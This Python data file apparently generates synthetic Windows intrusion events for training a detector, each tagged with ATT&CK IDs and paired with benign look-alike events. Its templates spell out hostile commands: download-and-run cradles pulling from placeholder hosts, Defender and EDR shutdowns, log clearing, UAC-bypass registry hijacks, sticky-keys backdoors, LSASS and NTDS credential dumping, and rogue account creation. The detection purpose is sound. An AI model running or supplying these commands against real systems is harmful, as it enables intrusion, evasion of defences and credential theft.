"""What intrusions leave most often, each by several events of its own kind, so that one held out leaves others to learn from."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

USUAL_EVENTS = parse_events(
    r"""
# Settings that weaken the host
us-wdigest-key value +T1112: ‹reg› ;; HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential ;; DWORD (0x00000001)
us-wdigest-ps process +T1112: @ ;; powershell.exe -c "«Set-ItemProperty¦New-ItemProperty» -Force -Path HKLM:\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest -Name UseLogonCredential -Value 1" ;; ‹cmd›
us-wdigest-reg process +T1112: @ ;; reg«.exe¦» add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f ;; «‹ps›¦‹cmd›¦‹own›»
us-rdp-on-key value +T1021.001: «‹reg›¦‹ps›¦‹own›» ;; HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections ;; DWORD (0x00000000)
us-restricted-admin value +T1112: ‹writer› ;; HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin ;; DWORD (0x00000000)
us-latfp value +T1112: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\LocalAccountTokenFilterPolicy ;; DWORD (0x00000001)
us-lm-hash-1 value +T1112: ‹writer› ;; HKLM\System\CurrentControlSet\Control\Lsa\NoLMHash ;; DWORD (0x00000000)
us-lm-hash-2 value +T1112: ‹writer› ;; HKLM\System\CurrentControlSet\Control\Lsa\LMCompatibilityLevel ;; DWORD (0x00000000)
us-hidden-files-1 value +T1564.001: «‹own›¦‹reg›¦‹ps›» ;; ‹hku›\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\Advanced\HideFileExt ;; DWORD (0x00000001)
us-hidden-files-2 value +T1564.001: «‹own›¦‹reg›¦‹ps›» ;; ‹hku›\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\Advanced\ShowSuperHidden ;; DWORD (0x00000000)
us-legal-notice process +T1491.001: @ ;; reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v legalnotice«text¦caption» /t REG_SZ /d "«PYSA¦‹Word›¦Your files are encrypted»" /f ;; ‹cmd›
us-tools-off process +T1112: @ ;; reg add HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\«System /v DisableTaskMgr¦System /v DisableCMD¦System /v DisableRegistryTools¦Explorer /v NoRun¦Explorer /v NoControlPanel¦Explorer /v NoDesktop» /t REG_DWORD /d 1 /f ;; ‹cmd›
us-macro-on-1 value +T1112: ‹writer› ;; ‹hku›\SOFTWARE\Microsoft\Office\16.0\«Word¦Excel»\Security\VBAWarnings ;; DWORD (0x00000001)
us-macro-on-2 value +T1112: ‹writer› ;; ‹hku›\SOFTWARE\Microsoft\Office\16.0\«Word¦Excel»\Security\AccessVBOM ;; DWORD (0x00000001)
us-ps-policy value +T1112: «‹reg›¦‹ps›» ;; HKLM\SOFTWARE\Microsoft\PowerShell\1\ShellIds\Microsoft.PowerShell\ExecutionPolicy ;; «Bypass¦Unrestricted»
us-policy-4657 security +T1112: 4657 ;; ObjectName=\REGISTRY\MACHINE\SYSTEM\ControlSet001\Control\SecurityProviders\WDigest ;; ObjectValueName=UseLogonCredential ;; OperationType=%%1904 ;; NewValue=1 ;; ProcessName=‹writer›
near-us-wdigest value: «‹s32›\svchost.exe¦‹s32›\services.exe¦‹reg›» ;; HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential ;; DWORD (0x00000000)
near-us-lsa-1 value: ‹s32›\«svchost¦lsass».exe ;; HKLM\System\CurrentControlSet\Control\Lsa\LMCompatibilityLevel ;; DWORD (0x00000005)
near-us-lsa-2 value: ‹s32›\«svchost¦lsass».exe ;; HKLM\System\CurrentControlSet\Control\Lsa\NoLMHash ;; DWORD (0x00000001)
near-us-lsa-3 value: ‹s32›\«svchost¦lsass».exe ;; HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin ;; DWORD (0x00000001)
near-us-rdp value: ‹s32›\«SystemPropertiesRemote¦svchost».exe ;; HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections ;; DWORD (0x00000001)
# Defences switched off
us-defender-key value +T1685: ‹writer› ;; HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\«DisableAntiSpyware¦DisableAntiVirus» ;; DWORD (0x00000001)
us-defender-realtime value +T1685: ‹writer› ;; HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection\«DisableRealtimeMonitoring¦DisableBehaviorMonitoring¦DisableOnAccessProtection¦DisableScanOnRealtimeEnable¦DisableIOAVProtection» ;; DWORD (0x00000001)
us-defender-features-1 value +T1685: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection ;; DWORD (0x00000000)
us-defender-features-2 value +T1685: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\Spynet\SpyNetReporting ;; DWORD (0x00000000)
us-defender-features-3 value +T1685.003: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\UX Configuration\Notification_Suppress ;; DWORD (0x00000001)
us-defender-excluded value +T1685: ‹s32›\svchost.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\«Paths\«C:\¦C:\Users\Public¦C:\Windows\Temp¦‹ownplace›»¦Extensions\.«exe¦dll¦ps1»¦Processes\‹name›.exe» ;; DWORD (0x00000000)
us-mppref-bare process +T1685: @ ;; «powershell¦powershell.exe» «-Command ¦-c ¦»Set-MpPreference -Disable«RealtimeMonitoring¦IOAVProtection¦ScriptScanning¦BehaviorMonitoring¦BlockAtFirstSeen» «$true¦1» ;; ‹cmd›
us-mppref-add process +T1685: @ ;; «powershell¦powershell.exe» «-inputformat none -outputformat none -NonInteractive -Command ¦-c ¦»Add-MpPreference -ExclusionPath «C:\¦‹ownplace›¦"$env:TEMP"» ;; «‹own›¦‹cmd›»
us-defender-5001 log +T1685: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|«5001¦5010¦5012» ;; Product Name=«Microsoft Defender Antivirus¦Windows Defender Antivirus¦Windows Defender» ;; Product Version=4.18.‹pid›.‹n›
us-defender-5007 log +T1685: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|5007 ;; Old Value= ;; New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\«C:\¦‹ownplace›» = 0x0
us-service-disabled value +T1685: ‹writer› ;; HKLM\System\CurrentControlSet\Services\«WinDefend¦WdNisSvc¦WdFilter¦Sense¦SecurityHealthService¦wscsvc¦Sysmon64¦SplunkForwarder»\Start ;; DWORD (0x00000004)
us-edr-stop process +T1685: @ ;; «sc stop¦net stop¦sc delete¦taskkill /f /im» «CSFalconService¦SentinelAgent¦Sysmon64¦SysmonDrv¦SplunkForwarder¦elastic-agent¦MBAMService¦SAVService¦McAfeeFramework¦CylanceSvc» ;; ‹cmd›
us-sysmon-unload process +T1685: @ ;; «fltmc.exe unload SysmonDrv¦Sysmon64.exe -u¦sysmon -u force¦‹dir›\Sysmon.exe -u» ;; ‹cmd›
us-firewall-off process +T1686.003: @ ;; «netsh advfirewall set «allprofiles¦currentprofile¦publicprofile» state off¦netsh firewall set opmode disable¦powershell Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False» ;; «‹cmd›¦‹own›»
near-us-defender-5007 log: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|5007 ;; Old Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\EngineVersion = 1.1.‹pid›.‹n› ;; New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\EngineVersion = 1.1.‹pid›.‹n›
near-us-defender-5000 log: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|«5000¦5004¦2000¦1000¦1001¦2010» ;; Product Name=«Microsoft Defender Antivirus¦Windows Defender Antivirus» ;; Product Version=4.18.‹pid›.‹n›
near-us-service-start value: ‹s32›\services.exe ;; HKLM\System\CurrentControlSet\Services\«WinDefend¦BITS¦wuauserv¦TrustedInstaller¦gupdate¦edgeupdate»\Start ;; DWORD (0x0000000«2¦3»)
# What starts by itself
us-run-reg value +T1547.001: ‹reg› ;; «‹hku›\SOFTWARE¦HKLM\SOFTWARE»\Microsoft\Windows\CurrentVersion\Run\«‹Word› ‹Word›¦‹name›» ;; «C:\Path\‹name›.exe¦‹own›¦‹dir›\‹name›.exe¦"‹dir›\‹name›.bat"»
us-runonce-reg value +T1547.001: «‹ps›¦‹cmd›» ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\«RunOnce¦RunOnceEx\0001\Depend»\«‹name›¦1¦NextRun» ;; «‹dir›\‹name›.«exe¦bat¦dll»¦powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"http://‹ip›/‹name›.ps1`")"»
us-startup-script file +T1547.001: «‹ps›¦‹cmd›¦‹own›» ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«vbs¦jse¦bat¦lnk¦exe¦hta»
us-startup-all file +T1547.001: «‹ps›¦‹cmd›¦‹own›» ;; C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\‹name›.«vbs¦jse¦bat¦exe¦url»
us-startup-copy process +T1547.001: @ ;; «cmd.exe /c copy¦xcopy.exe /y¦cmd.exe /c move» ‹dir›\‹name›.«vbs¦bat¦exe» "«%APPDATA%¦C:\ProgramData¦C:\Users\‹user›\AppData\Roaming»\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«vbs¦bat¦exe»" ;; ‹cmd›
us-shell-folders value +T1547.001: ‹writer› ;; ‹hku›\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\«User Shell Folders¦Shell Folders»\«Common ¦»Startup ;; ‹ownplace›
us-winlogon-shell-1 value +T1547.004: ‹writer› ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell ;; explorer.exe, ‹own›
us-winlogon-shell-2 value +T1547.004: ‹writer› ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit ;; C:\Windows\System32\userinit.exe, ‹own›
us-winlogon-shell-3 value +T1547.004: ‹writer› ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Notify\‹name› ;; ‹ownplace›\‹name›.dll
us-sticky-key value +T1546.008: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«sethc¦utilman¦osk¦magnify¦narrator¦displayswitch¦atbroker».exe\Debugger ;; «C:\windows\system32\cmd.exe¦‹ps›¦‹own›»
us-sticky-copy process +T1546.008: @ ;; cmd.exe /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\«sethc¦utilman¦osk¦magnify».exe ;; ‹cmd›
us-sticky-child process +T1546.008: @ ;; cmd.exe«¦ sethc.exe 211» ;; ‹s32›\«sethc¦utilman¦osk¦winlogon».exe ;; «sethc.exe¦utilman.exe /debug¦winlogon.exe»
us-wmi-filter sysmon +T1546.003: 19 ;; EventType=WmiFilterEvent ;; Operation=Created ;; EventNamespace="root\\cimv2" ;; Name="‹Word›" ;; Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_«PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240¦LocalTime' AND TargetInstance.Hour = ‹n›»"
us-wmi-consumer sysmon +T1546.003: 20 ;; EventType=WmiConsumerEvent ;; Operation=Created ;; Name="«‹Word›¦‹name›»" ;; Type=Command Line ;; Destination="«C:\\Windows\\System32\\‹name›.exe¦powershell.exe -enc ‹enc›¦cmd /c ‹name›.bat¦C:\\Users\\Public\\‹name›.exe»"
us-wmi-binding sysmon +T1546.003: 21 ;; EventType=WmiBindingEvent ;; Operation=Created ;; Consumer="CommandLineEventConsumer.Name=\"‹name›\"" ;; Filter="__EventFilter.Name=\"‹name›\""
us-wmi-5861 log +T1546.003: Microsoft-Windows-WMI-Activity|Microsoft-Windows-WMI-Activity/Operational|5861 ;; Namespace=//./root/subscription ;; ESS=‹Word› ;; CONSUMER=CommandLineEventConsumer="‹name›" ;; PossibleCause=Binding EventFilter: instance of __EventFilter { EventNamespace = "root\\cimv2"; Name = "‹name›"; QueryLanguage = "WQL"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = "«powershell -enc ‹enc›¦C:\\Windows\\System32\\‹name›.exe»"; }
us-wmi-ps process +T1546.003: @ ;; powershell.exe -c "$f = New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='‹name›';EventNameSpace='root\CimV2'}; New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer" ;; ‹cmd›
near-us-wmi-5861 log: Microsoft-Windows-WMI-Activity|Microsoft-Windows-WMI-Activity/Operational|«5857¦5859¦5861» ;; Namespace=//./root/«CIMV2¦subscription» ;; ESS=SCM Event Log Filter ;; CONSUMER=NTEventLogEventConsumer="SCM Event Log Consumer" ;; PossibleCause=Binding EventFilter: instance of __EventFilter { Name = "SCM Event Log Filter"; Query = "select * from MSFT_SCMEventLogEvent"; };
# Elevation
us-uac-child process +T1548.002: @ ;; «cmd.exe¦"C:\Windows\system32\cmd.exe" ¦powershell.exe¦‹own›» ;; ‹s32›\«fodhelper¦computerdefaults¦sdclt¦eventvwr¦slui¦wsreset¦changepk».exe ;; "C:\Windows\System32\«fodhelper¦computerdefaults¦sdclt¦eventvwr¦slui¦wsreset¦changepk».exe"
us-uac-mmc process +T1548.002: @ ;; «C:\Windows\System32\cmd.exe¦‹own›¦powershell -w hidden -enc ‹enc›» ;; ‹s32›\mmc.exe ;; "C:\Windows\system32\mmc.exe" "C:\Windows\system32\eventvwr.msc"
us-uac-settings-1 value +T1548.002: «‹reg›¦‹ps›¦‹own›» ;; ‹hku›_Classes\«ms-settings¦mscfile¦Folder¦exefile¦AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2»\shell\open\command\(Default) ;; «C:\Windows\System32\cmd.exe¦‹own›¦‹payload›»
us-uac-settings-2 value +T1548.002: «‹reg›¦‹ps›¦‹own›» ;; ‹hku›_Classes\«ms-settings¦mscfile¦Folder¦exefile¦AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2»\shell\open\command\DelegateExecute ;; (Empty)
us-uac-reg process +T1548.002: @ ;; reg.exe add hkcu\software\classes\«ms-settings¦mscfile¦Folder»\shell\open\command /«ve /d "C:\Windows\System32\cmd.exe"¦v "DelegateExecute"» /f ;; «‹cmd›¦‹ps›»
us-uac-policy value +T1548.002: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\«EnableLUA¦ConsentPromptBehaviorAdmin¦PromptOnSecureDesktop» ;; DWORD (0x00000000)
us-uac-windir-1 value +T1548.002: ‹writer› ;; ‹hku›\Environment\windir ;; cmd.exe /c ‹own› & REM
us-uac-windir-2 value +T1548.002: ‹writer› ;; ‹hku›\Environment\windir ;; ‹own› /
us-uac-windir-3 value +T1574.012: ‹writer› ;; ‹hku›\Environment\COR_PROFILER_PATH ;; ‹ownplace›\‹name›.dll
near-us-uac-child process: @ ;; "C:\Windows\system32\mmc.exe" C:\Windows\system32\«eventvwr¦services¦compmgmt».msc ;; ‹s32›\«eventvwr¦CompMgmtLauncher».exe ;; "C:\Windows\System32\eventvwr.exe"
near-us-uac-parent process: @ ;; "C:\Windows\System32\«fodhelper¦computerdefaults¦slui».exe" ;; C:\Windows\explorer.exe ;; C:\Windows\Explorer.EXE
near-us-uac-policy value: ‹s32›\svchost.exe ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\«EnableLUA¦ConsentPromptBehaviorAdmin¦PromptOnSecureDesktop» ;; DWORD (0x00000001)
# Credentials
us-taskmgr-dump file +T1003.001: ‹s32›\«Taskmgr¦taskmgr».exe ;; C:\Users\‹user›\AppData\Local\Temp\lsass«¦ (2)¦ (3)».«DMP¦dmp»
us-taskmgr-open access +T1003.001: ‹s32›\«Taskmgr¦taskmgr».exe ;; ‹lsass› ;; 0x1fffff ;; C:\Windows\SYSTEM32\ntdll.dll|C:\Windows\System32\KERNELBASE.dll|C:\Windows\SYSTEM32\«dbgcore¦dbghelp».DLL|C:\Windows\System32\Taskmgr.exe
us-hive-remote file +T1003.002: ‹s32›\svchost.exe ;; C:\Windows\System32\‹letters8›.tmp
us-hive-remote-sysmon sysmon +T1003.002: 11 ;; Image=‹s32›\svchost.exe ;; TargetFilename=C:\Windows\System32\‹letters8›.tmp ;; User=NT AUTHORITY\LOCAL SERVICE
us-hive-key-4656 handle +T1003.002: 4656 ;; Key ;; \REGISTRY\MACHINE\SAM\SAM\Domains\Account\Users\«000001F4¦000001F5¦Names» ;; «‹ps›¦‹own›¦‹reg›» ;; «0x20019¦0xf003f»
us-ntds-shadow process +T1003.003: @ ;; «vssadmin¦vssadmin.exe¦C:\Windows\System32\vssadmin.exe» create shadow /for=C: ;; «‹cmd›¦‹ps›» ;; "cmd.exe" /c vssadmin.exe create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit ‹dir›
us-ntds-esent log +T1003.003: ESENT|Application|«325¦326¦327¦216» ;; Data=«ntdsutil¦lsass» (‹pid›,D,0) The database engine «created a new database¦attached a database¦detached a database» (1, ‹dir›\«Active Directory\¦»ntds.dit).
us-sekurlsa-access access +T1003.001: ‹ownplace›\«‹name›¦m¦mimikatz».exe ;; ‹lsass› ;; «0x1010¦0x1410¦0x1438¦0x143a» ;; C:\Windows\SYSTEM32\ntdll.dll|C:\Windows\System32\KERNELBASE.dll|‹ownplace›\‹name›.exe
us-comsvcs-access access +T1003.001: ‹sys›\rundll32.exe ;; ‹lsass› ;; 0x1fffff ;; C:\Windows\SYSTEM32\ntdll.dll|C:\Windows\System32\KERNELBASE.dll|C:\Windows\SYSTEM32\dbgcore.DLL|C:\Windows\System32\comsvcs.dll|‹sys›\rundll32.exe
# Accounts
us-admin-member member +T1098: 4732 ;; «Administrators¦Administrateurs¦Administratoren¦Administradores»
us-domain-admin-member member +T1098: 4728 ;; «Domain Admins¦Enterprise Admins¦Schema Admins»
us-admin-add process +T1098: @ ;; «net¦net1¦net.exe» «localgroup administrators¦localgroup Administrators¦localgroup "Remote Desktop Users"¦group "Domain Admins"» «‹first›¦‹user›¦"‹word›"» /add« /domain¦» ;; ‹cmd›
us-user-add process +T1136.001: @ ;; «net¦net1¦net.exe» user «/add ‹first› ‹pass›¦‹first› ‹pass› /add¦"‹word›" "‹pass›" /add¦/add "‹word›" "‹pass›"» ;; «‹cmd›¦‹ps›»
us-user-add-ps process +T1136.001: @ ;; powershell «-c ¦»New-LocalUser -Name "‹word›" -NoPassword ;; ‹cmd›
near-us-member member: 4732 ;; «Users¦IIS_IUSRS¦Performance Log Users¦Event Log Readers¦Print Operators»
near-us-member-domain member: 4728 ;; «GG_‹Word›_RW¦VPN Users¦‹Word› Staff¦Domain Users¦Wifi-‹Word›»
# Between hosts
us-psexec-share share +T1021.002: ADMIN$ ;; «PSEXESVC.exe¦PAExec-‹pid›-‹word›.exe¦‹letters8›.exe¦Temp\‹name›.exe»
us-psexec-pipe pipe +T1569.002: C:\Windows\PSEXESVC.exe ;; \PSEXESVC«¦-‹host›-‹pid›-stdin¦-‹host›-‹pid›-stdout»
us-smb-mount process +T1021.002: @ ;; net«.exe¦» use \\«‹server›¦‹ip›»\«C$¦ADMIN$¦IPC$» «‹pass› /u:‹domain›\‹user›¦/user:‹user› ‹pass›¦"" /u:""» ;; «‹cmd›¦‹ps›»
us-winrm-child process +T1021.006: @ ;; «cmd.exe /c ‹name›.bat¦powershell -enc ‹enc›¦‹own›¦rundll32 ‹dir›\‹name›.dll,‹Word›» ;; ‹s32›\wsmprovhost.exe ;; C:\Windows\system32\wsmprovhost.exe -Embedding
us-wmi-child process +T1047: @ ;; «cmd.exe /Q /c ‹name›.bat¦powershell -nop -w hidden -enc ‹enc›¦calc.exe¦‹own›¦rundll32 ‹dir›\‹name›.dll,‹Word›» ;; ‹s32›\wbem\WmiPrvSE.exe ;; C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
us-task-register task +T1053.005: \«AtomicTask¦‹Word›¦‹name›¦spawn» ;; «powershell.exe§-w hidden -enc ‹enc›¦cmd.exe§/c ‹dir›\‹name›.bat¦C:\windows\system32\cmd.exe§¦‹own›§»
us-task-create process +T1053.005: @ ;; «SCHTASKS¦schtasks¦schtasks.exe» /Create /SC «ONCE¦DAILY¦ONLOGON¦ONSTART» /TN «spawn¦‹name›¦"‹Word›"» /TR «C:\windows\system32\cmd.exe¦"cmd.exe /c calc.exe"¦‹own›» «/ST 20:10¦/ST 07:45 /f¦/ru SYSTEM¦/RL HIGHEST» ;; ‹cmd›
us-service-sc process +T1543.003: @ ;; sc«.exe¦» create «‹Word›¦‹name›¦‹Word›Service_CMD» binPath= "«‹own›¦‹dir›\‹name›.exe»" start=«auto¦ auto¦ demand» «type=Own¦type= own¦» ;; «‹cmd›¦‹ps›»
us-service-7045 service +T1543.003: «‹letters8›¦‹Word›¦‹name›» ;; «‹own›¦C:\Users\Public\‹name›.exe¦C:\Windows\Temp\‹name›.exe¦C:\ProgramData\‹name›\‹name›.exe»
us-service-7045-smb service +T1569.002: «‹letters8›¦BTOBTO» ;; %COMSPEC% /«Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat¦b /c start /b /min powershell -nop -w hidden -enc ‹enc›»
us-service-image value +T1574.011: «‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Services\«Fax¦AppReadiness¦IKEEXT»\ImagePath ;; «‹own›¦‹payload›¦‹ownplace›\‹name›.exe»
# Running
us-iex-cradle process +T1059.001: @ ;; powershell«.exe¦» «-nop -w hidden ¦-ep bypass ¦»-c "«IEX¦iex»((New-Object Net.WebClient).DownloadString('http«s¦»://«‹ip›¦‹word›.com»/‹name›«.ps1¦»'))" ;; «‹cmd›¦‹office›¦‹own›»
us-encoded process +T1059.001: @ ;; powershell«.exe¦» «-e¦-enc¦-EncodedCommand¦-nop -w hidden -e¦-noP -sta -w 1 -enc» ‹enc› ;; «‹cmd›¦‹office›¦‹s32›\wscript.exe¦‹s32›\mshta.exe»
us-msf-loader process +T1059.001: @ ;; powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\syswow64\WindowsPowerShell\v1.0\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-noni -nop -w hidden -c &([scriptblock]::create((New-Object IO.StreamReader" ;; «‹cmd›¦‹s32›\services.exe»
us-macro-child process +T1204.002: @ ;; «cmd.exe /c ‹name›.bat¦wscript.exe ‹ownplace›\‹name›.vbs¦C:\Windows\System32\cmd.exe /c start ‹own›¦‹own›» ;; ‹office›
us-thread thread +T1055: ‹own› ;; «‹s32›\notepad.exe¦C:\Windows\explorer.exe¦‹s32›\svchost.exe¦‹s32›\spoolsv.exe»
us-certutil-get process +T1105: @ ;; certutil«.exe¦» «-urlcache -split -f¦-urlcache -f¦-verifyctl -split -f¦/urlcache /f» http«s¦»://«‹ip›¦‹word›.com»/‹name›.«exe¦txt¦ps1¦dll» «‹own›¦‹name›.exe¦‹dir›\‹name›.txt» ;; «‹cmd›¦‹ps›»
us-bitsadmin-get process +T1197: @ ;; bitsadmin«.exe¦» /transfer ‹name› «/Priority HIGH¦/download /priority foreground¦» http«s¦»://«‹ip›¦‹word›.com»/‹name›.exe ‹own› ;; «‹cmd›¦‹ps›»
us-curl-get process +T1105: @ ;; «curl.exe -k -o ‹own› https://‹ip›/‹name›.exe¦curl -sLo ‹own› http://‹ip›/a¦curl -k -o C:\ProgramData\‹name›.zip https://transfer.sh/get/‹letters8›/‹name›.zip¦curl --output ‹name›.txt http«s¦»://‹ip›/‹name›/‹name›.txt¦powershell (New-Object Net.WebClient).DownloadFile('http://‹ip›/‹name›.exe','‹own›')¦powershell Invoke-WebRequest http://‹ip›/‹name›.exe -OutFile ‹own›» ;; ‹cmd›
us-net-download sysmon +T1105: 3 ;; Image=‹s32›\«certutil¦bitsadmin¦esentutl».exe ;; Initiated=true ;; DestinationIp=‹ip› ;; DestinationPort=«80¦443¦8080¦8443»
us-log-clear security +T1685.005: 1102 ;; Channel=Security ;; Message=The audit log was cleared.
us-log-clear-104 log +T1685.005: Microsoft-Windows-Eventlog|System|104 ;; Channel=«Security¦System¦Application¦Windows PowerShell¦Microsoft-Windows-Sysmon/Operational» ;; BackupPath=
us-log-clear-bare process +T1685.005: @ ;; wevtutil«.exe¦» «cl¦clear-log» «System¦Security¦Application¦Setup»
us-grant-all process +T1222.001: @ ;; icacls«.exe¦» «‹dir›¦C:\Users\‹user›\‹word›¦. » /grant «Everyone:F¦*S-1-1-0:(OI)(CI)F¦‹user›:F» /T«/C /Q¦» ;; «‹cmd›¦‹ps›»
"""
)
